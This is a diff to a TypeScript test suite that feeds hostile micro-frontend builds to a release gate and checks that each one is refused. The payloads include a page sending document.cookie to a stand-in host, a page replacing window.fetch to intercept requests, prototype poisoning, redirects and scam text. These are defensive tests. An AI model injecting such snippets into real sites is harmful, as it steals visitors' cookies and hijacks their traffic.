@@ -1,15 +1,155 @@
 import type { Attack } from './attack.ts';
+import type { HostileBuild, HostileSite } from './hostile-site.ts';
 
-const remote = 'mf-agents';
+const remote = 'mf-demos';
+const globalName = 'mf_demos';
+
+/** A container whose pages do this as they load; `Page` is the page that they were. */
+function withPages(load: string): (container: string) => string {
+  return (container) => `${container}
+;${globalName} = ((container) => ({
+  init: container.init,
+  get: async (name) => {
+    const factory = await container.get(name);
+    return () => {
+      const { routes } = factory();
+      return { routes: routes.map((route) => ({ ...route, load: async () => { const Page = await route.load(); ${load} } })) };
+    };
+  },
+}))(${globalName});`;
+}
+
+/** A squad publishes a hostile build and asks for it to be live: the gate must refuse it, for the reason that is there. */
+function refusedAtTheGate(name: string, build: Omit<HostileBuild, 'remote'>, reason: RegExp): Attack {
+  return {
+    name,
+    async run(site) {
+      const refusal = await refusalOf(site, { remote, ...build });
+      if (refusal === null) return `the release went live (${await site.live(remote)})`;
+      return reason.test(refusal) ? null : `it was refused for something else: ${refusal.slice(0, 300)}`;
+    },
+  };
+}
+
+async function refusalOf(site: HostileSite, build: HostileBuild): Promise<string | null> {
+  let id: string;
+  try {
+    id = await site.publish(build);
+  } catch (error) {
+    return error instanceof Error && 'stderr' in error ? String(error.stderr) : String(error);
+  }
+  return site.refusalOf('activate', build.remote, id);
+}
+
+const inBrowser = (words: string) => new RegExp(`\\[browser\\].*(?:${words})|"rule": "browser"[^]*(?:${words})`, 's');
 
 /** Hostile builds that must not pass the gate. */
 export const gateAttacks: readonly Attack[] = [
-  {
-    name: 'a server bundle that hangs while it loads is activated',
-    async run(site) {
-      const id = await site.publish({ remote, server: (code) => `${code}; for (;;);` });
-      const refusal = await site.refusalOf('activate', remote, id);
-      return refusal === null ? `${remote} ${id} went live` : null;
+  refusedAtTheGate('a container that is no script', { container: () => '}{' }, inBrowser('SyntaxError|Unexpected')),
+  refusedAtTheGate(
+    'a container that throws',
+    { container: (code) => `throw new Error('no licence');${code}` },
+    inBrowser('no licence'),
+  ),
+  refusedAtTheGate(
+    'a container that takes the place of fetch, as its record says',
+    { build: (build) => ({ ...build, globalName: 'fetch' }) },
+    /globalName: must be the remote's own/,
+  ),
+  refusedAtTheGate(
+    "a container that takes another remote's place, as its record says",
+    { build: (build) => ({ ...build, globalName: 'mf_intake' }) },
+    /globalName: must be the remote's own/,
+  ),
+  refusedAtTheGate(
+    "a container that sets another remote's global beside its own",
+    { container: (code) => `${code};window.mf_intake = {};` },
+    inBrowser('changes window\\.mf_intake'),
+  ),
+  refusedAtTheGate(
+    'a container that loops for ever in browsers',
+    { container: (code) => `${code};for (;;);` },
+    inBrowser('does not come alive'),
+  ),
+  refusedAtTheGate(
+    'a page that throws in browsers alone',
+    { container: withPages("throw new Error('only here');") },
+    inBrowser('only here'),
+  ),
+  refusedAtTheGate(
+    'a page that throws as it renders in browsers',
+    { container: withPages("return () => { throw new Error('only here'); };") },
+    inBrowser('only here'),
+  ),
+  refusedAtTheGate(
+    'a page that shows browsers something else than the server',
+    { container: withPages("return () => 'Send your money to us';") },
+    inBrowser('hydration did not match'),
+  ),
+  refusedAtTheGate(
+    'a page that never mounts',
+    { container: withPages('return new Promise(() => {});') },
+    inBrowser('does not come alive|timeout'),
+  ),
+  refusedAtTheGate(
+    'a page that replaces fetch, to hear what visitors send',
+    { container: withPages('window.fetch = () => new Promise(() => {}); return Page;') },
+    inBrowser('changes window\\.fetch'),
+  ),
+  refusedAtTheGate(
+    'a page that poisons the lists of every other script',
+    { container: withPages('Array.prototype.map = function () { return []; }; return Page;') },
+    inBrowser('Array\\.prototype\\.map|failed|throws'),
+  ),
+  refusedAtTheGate(
+    'a page that writes its own document',
+    { container: withPages("document.write('<h1>Mine</h1>'); return Page;") },
+    inBrowser('calls document\\.write'),
+  ),
+  refusedAtTheGate(
+    'a page that leads visitors away',
+    { container: withPages("location.href = 'https://elsewhere.example/'; return Page;") },
+    inBrowser('leads away'),
+  ),
+  refusedAtTheGate(
+    'a page that registers a service worker over the whole site',
+    { container: withPages("navigator.serviceWorker.register('/remotes/worker.js'); return Page;") },
+    inBrowser('navigator\\.serviceWorker\\.register|failed'),
+  ),
+  refusedAtTheGate(
+    'a page that opens a dialog',
+    { container: withPages("alert('You have won'); return Page;") },
+    inBrowser('calls window\\.alert|opens a dialog'),
+  ),
+  refusedAtTheGate(
+    'a page that sends what it finds to another host',
+    { container: withPages("void fetch('https://elsewhere.example/' + document.cookie); return Page;") },
+    inBrowser('content security policy|leaves a promise rejected|throws'),
+  ),
+  refusedAtTheGate(
+    'a record of 900 kB, which every page would carry',
+    {
+      build: (build) => {
+        const search = { q: Array.from({ length: 900 }, (_, n) => `${n} ${'x'.repeat(1000)}`) };
+        return { ...build, routes: build.routes.map((route: object) => ({ ...route, search })) };
+      },
     },
-  },
+    /routes/,
+  ),
+  refusedAtTheGate(
+    'a record that is within all bounds of its fields, and still too large',
+    {
+      build: (build) => {
+        const values = Array.from({ length: 100 }, (_, n) => `${n} ${'x'.repeat(190)}`);
+        const search = { a: values, b: values, c: values };
+        return { ...build, routes: build.routes.map((route: object) => ({ ...route, search })) };
+      },
+    },
+    /record-budget/,
+  ),
+  refusedAtTheGate(
+    'a server bundle that hangs while it loads',
+    { server: (code) => `${code}; for (;;);` },
+    /did not finish within/,
+  ),
 ];
